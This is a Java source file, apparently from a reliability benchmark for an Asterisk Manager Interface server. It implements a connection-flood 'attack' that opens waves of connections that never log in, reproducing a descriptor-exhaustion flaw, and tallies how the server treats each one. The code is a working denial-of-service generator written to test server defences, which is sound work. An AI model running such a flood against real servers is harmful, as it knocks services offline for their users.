package dev.ami.bench;

import io.netty.buffer.ByteBuf;
import io.netty.channel.Channel;
import io.netty.channel.ChannelFuture;
import io.netty.channel.ChannelHandlerContext;
import io.netty.channel.ChannelInboundHandlerAdapter;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.concurrent.Semaphore;
import java.util.concurrent.TimeUnit;

/**
 * Waves of connections that never log in (AST-2011-005's descriptor exhaustion): each wave opens
 * {@code sockets} connections from the given addresses, at most {@link #IN_FLIGHT} connecting at
 * once (more would measure the SYN backlog, not the server), waits for the server's verdict on
 * each (greeted, closed without a word, or left silent), holds what it was given until the wave
 * ends, closes everything and starts the next, until stopped.
 */
final class ConnectionFlood implements Attack {

    private static final int IN_FLIGHT = 1000;
    /** how long after its last connect a wave waits for the server's verdict on every connection */
    private static final long VERDICT_NANOS = TimeUnit.SECONDS.toNanos(2);

    private enum State { CONNECTING, OPEN, GREETED, CLOSED_UNGREETED, FAILED }

    /** One flood connection; it only watches what the server does with it. */
    private static final class Conn extends ChannelInboundHandlerAdapter {
        private volatile State state = State.CONNECTING;
        private volatile Channel channel;
        private volatile Throwable failure;

        @Override
        public void channelActive(ChannelHandlerContext ctx) {
            channel = ctx.channel();
            state = State.OPEN;
        }

        @Override
        public void channelRead(ChannelHandlerContext ctx, Object msg) {
            ((ByteBuf) msg).release();
            if (state == State.OPEN) {
                state = State.GREETED;
            }
        }

        @Override
        public void channelInactive(ChannelHandlerContext ctx) {
            if (state == State.OPEN) {
                state = State.CLOSED_UNGREETED;
            }
        }

        @Override
        public void exceptionCaught(ChannelHandlerContext ctx, Throwable cause) {
            ctx.close();
        }

        void failed(Throwable cause) {
            failure = cause;
            state = State.FAILED;
        }

        boolean decided() {
            return state != State.CONNECTING && state != State.OPEN;
        }
    }

    private final AttackClient client;
    private final List<String> sources;
    private final int sockets;
    private final int port;
    private final int share;
    private volatile boolean running;
    private Thread thread;
    // totals, written by the flood thread only, read after stop()
    private int waves;
    private int fullWaves;
    private long connected;
    private long connectFailures;
    private String firstConnectFailure;
    private long greeted;
    private int mostGreetedInAWave;
    private long closedUngreeted;
    private long silent;
    private double waveSeconds;

    /**
     * @param sources the local addresses the connections come from, in turn
     * @param sockets connections per wave
     * @param port    the server's AMI port
     * @param share   the connections before login the server should let these sources hold (its
     *                admission share for them), which the report sets the greetings of a wave against
     */
    ConnectionFlood(AttackClient client, List<String> sources, int sockets, int port, int share) {
        this.client = client;
        this.sources = sources;
        this.sockets = sockets;
        this.port = port;
        this.share = share;
    }

    @Override
    public void start() {
        running = true;
        thread = new Thread(this::flood, "reliability-flood");
        thread.setDaemon(true);
        thread.start();
    }

    @Override
    public void stop() throws InterruptedException {
        running = false;
        if (thread != null) {
            thread.join(TimeUnit.SECONDS.toMillis(60));
        }
    }

    private void flood() {
        try {
            while (running) {
                wave();
            }
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }

    private void wave() throws InterruptedException {
        Semaphore slots = new Semaphore(IN_FLIGHT);
        List<Conn> conns = new ArrayList<>(sockets);
        long t0 = System.nanoTime();
        for (int i = 0; i < sockets && running; i++) {
            while (!slots.tryAcquire(100, TimeUnit.MILLISECONDS)) {
                if (!running) {
                    break;
                }
            }
            Conn conn = new Conn();
            conns.add(conn);
            client.connect(sources.get(i % sources.size()), port, conn).addListener(f -> {
                slots.release();
                if (!f.isSuccess()) {
                    conn.failed(f.cause());
                }
            });
        }
        // every connect resolved (the last ones' slots come back)
        slots.tryAcquire(IN_FLIGHT, 15, TimeUnit.SECONDS);
        double seconds = (System.nanoTime() - t0) / 1e9;
        long deadline = System.nanoTime() + VERDICT_NANOS;
        while (System.nanoTime() < deadline && !conns.stream().allMatch(Conn::decided)) {
            Thread.sleep(50);
        }
        tally(conns, seconds);
        List<ChannelFuture> closing = new ArrayList<>();
        for (Conn c : conns) {
            if (c.channel != null) {
                closing.add(c.channel.close());
            }
        }
        for (ChannelFuture f : closing) {
            f.awaitUninterruptibly(10, TimeUnit.SECONDS);
        }
    }

    private void tally(List<Conn> conns, double seconds) {
        int waveConnected = 0;
        int waveGreeted = 0;
        for (Conn c : conns) {
            switch (c.state) {
                case GREETED -> waveGreeted++;
                case CLOSED_UNGREETED -> closedUngreeted++;
                case OPEN -> silent++;
                case FAILED -> {
                    connectFailures++;
                    if (firstConnectFailure == null) {
                        firstConnectFailure = String.valueOf(c.failure);
                    }
                }
                default -> connectFailures++; // still connecting after the connect timeout: counted as failed
            }
            if (c.state != State.FAILED && c.state != State.CONNECTING) {
                waveConnected++;
            }
        }
        waves++;
        connected += waveConnected;
        greeted += waveGreeted;
        mostGreetedInAWave = Math.max(mostGreetedInAWave, waveGreeted);
        waveSeconds += seconds;
        if (waveConnected == sockets) {
            fullWaves++;
        }
    }

    @Override
    public String summary() {
        return String.format(Locale.ROOT, "%d waves of %,d connections from %s (each wave connected in %.1f s on average);"
                        + " %,d connected, %,d failed to connect%s; the server greeted %,d (at most %d in one wave; %s %d),"
                        + " closed %,d at once without a word, left %,d silent",
                waves, sockets, sourcesText(), waves == 0 ? 0 : waveSeconds / waves, connected, connectFailures,
                firstConnectFailure == null ? "" : " (first: " + firstConnectFailure + ")", greeted, mostGreetedInAWave,
                mostGreetedInAWave > share ? "over the share of" : "the share is", share, closedUngreeted, silent);
    }

    private String sourcesText() {
        return sources.size() == 1 ? sources.get(0) : sources.size() + " addresses " + sources.get(0) + "…"
                + sources.get(sources.size() - 1);
    }

    @Override
    public String shortfall() {
        if (fullWaves == 0) {
            return String.format(Locale.ROOT, "no wave had all its %,d connections connected (%,d failed to connect%s)",
                    sockets, connectFailures, firstConnectFailure == null ? "" : ", first: " + firstConnectFailure);
        }
        return null;
    }
}
